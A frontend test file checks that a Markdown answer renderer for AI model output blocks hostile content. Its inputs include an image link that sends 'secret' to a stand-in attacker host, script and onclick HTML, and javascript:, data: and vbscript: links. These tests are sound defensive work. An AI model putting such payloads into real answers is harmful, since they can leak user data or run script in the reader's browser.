// @vitest-environment happy-dom
/** An answer is shown as Markdown, and nothing a model writes runs, loads or leads astray. */
import { cleanup, render, screen, within } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { AnswerText } from "../../../src/web/conversation/answer-text.tsx";

afterEach(cleanup);

describe("what an answer can't do", () => {
  it("shows an image's words, and never fetches the image", () => {
    const { container } = render(
      <AnswerText text="![a chart](https://evil.example/?q=secret)" run={undefined} />,
    );
    expect(container.querySelector("img")).toBeNull();
    expect(container.innerHTML).not.toContain("evil.example");
  });

  it("keeps raw HTML as the text it is", () => {
    const { container } = render(
      <AnswerText text={'<script>alert(1)</script> <b onclick="x">'} run={undefined} />,
    );
    expect(container.querySelector("script, b")).toBeNull();
  });

  it.each(["javascript:alert(1)", "data:text/html,x", "vbscript:x"])(
    "leads nowhere for %s",
    (url) => {
      render(<AnswerText text={`[click](${url})`} run={undefined} />);
      expect(screen.getByText("click").getAttribute("href") ?? "").toBe("");
    },
  );
});

describe("what an answer shows", () => {
  it("has a table's rows and columns", () => {
    render(<AnswerText text={"| team | cost |\n| --- | --- |\n| data | $5 |"} run={undefined} />);
    const table = within(screen.getByRole("table"));
    expect(table.getByRole("columnheader", { name: "cost" })).toBeDefined();
    expect(table.getByRole("cell", { name: "$5" })).toBeDefined();
  });

  it("opens links beside the page, without telling where they were clicked", () => {
    render(<AnswerText text="[docs](https://example.com/docs)" run={undefined} />);
    const link = screen.getByRole("link", { name: "docs (example.com)" });
    expect(link.getAttribute("href")).toBe("https://example.com/docs");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
  });
});
